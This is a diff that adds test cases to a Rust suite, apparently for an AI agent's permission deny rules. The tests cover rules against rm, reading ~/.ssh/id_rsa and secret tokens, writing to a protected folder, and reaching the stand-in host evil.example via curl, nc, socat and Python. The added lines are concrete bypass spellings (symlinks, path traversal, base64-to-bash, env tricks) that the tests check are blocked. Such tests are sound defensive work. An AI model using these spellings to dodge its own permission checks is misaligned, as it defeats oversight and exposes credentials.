@@ -116,6 +116,12 @@ fn a_bash_deny_rule_holds_however_the_program_is_spelled() {
         "nice -n 1 timeout 5 rm v14",
         "eval rm v15",
         "echo cm0gdjE2 | base64 -d | bash",
+        "./../../../../../../../../../bin/rm v17",
+        "/usr/bin/time -o out rm v18",
+        "env -a x rm v19",
+        "ln -s /bin/rm myrm; ./myrm v20",
+        "python3 -c 'import os; os.posix_spawnp(\"rm\", [\"rm\", \"v21\"], {})'",
+        "env --split-string='rm v22'",
     ];
     for i in 1..=attacks.len() {
         p.file(&format!("v{i}"), "keep");
@@ -191,6 +197,10 @@ fn a_read_deny_rule_covers_every_tool_and_spelling() {
         bash("ln ~/.ssh/id_rsa hard && cat hard"),
         bash("bash show.sh"),
         bash("sh < show.sh"),
+        bash("cd -e ~/.ssh && cat id_rsa"),
+        bash("ln -s ~/.ssh k2; cat k2/id_rsa"),
+        bash("python3 -c 'print(open(\"secret/token\").read())'"),
+        bash("ls ~/.ss*"),
         ("view", json!({"path": "~/.ssh/id_rsa"})),
         ("view", json!({"path": "k"})),
         ("view", json!({"path": "secret/token"})),
@@ -237,6 +247,10 @@ fn an_edit_deny_rule_covers_bash_writes() {
         bash("sed -i s/keep/gone/ secret/a"),
         bash("truncate -s 0 secret/a"),
         bash("python3 -c 'print(1)' > secret/a"),
+        bash("cd secret && touch a"),
+        bash("cp -t secret /dev/null"),
+        bash("sort -o secret/a /dev/null"),
+        bash("python3 -c 'open(\"secret/a\", \"w\").write(\"x\")'"),
         ("write", json!({"path": "secret/b", "content": "x"})),
     ];
     let (_mock, results) = rounds(&p, Wire::OpenAi, calls, &["--yolo"]);
@@ -266,6 +280,14 @@ fn a_domain_deny_rule_covers_fetch_and_bash_in_any_spelling() {
         bash("curl -s https://Evil.Example/x"),
         bash("git clone https://evil.example/r.git"),
         bash("wget -q http://user@evil.example:8080/"),
+        bash("curl -s evil.example/x"),
+        bash("git clone evil.example:x"),
+        bash("curl https://{evil.example,x.invalid}/"),
+        bash("u=evil.example; curl https://$u/"),
+        bash("curl -x evil.example:8080 https://good.invalid/"),
+        bash("nc evil.example 80"),
+        bash("socat TCP:evil.example:80 -"),
+        bash("python3 -c 'import urllib.request as u; u.urlopen(\"https://evil.example\")'"),
     ];
     let (_mock, results) = rounds(&p, Wire::OpenAi, calls, &["--yolo"]);
     for (i, r) in results.iter().enumerate() {
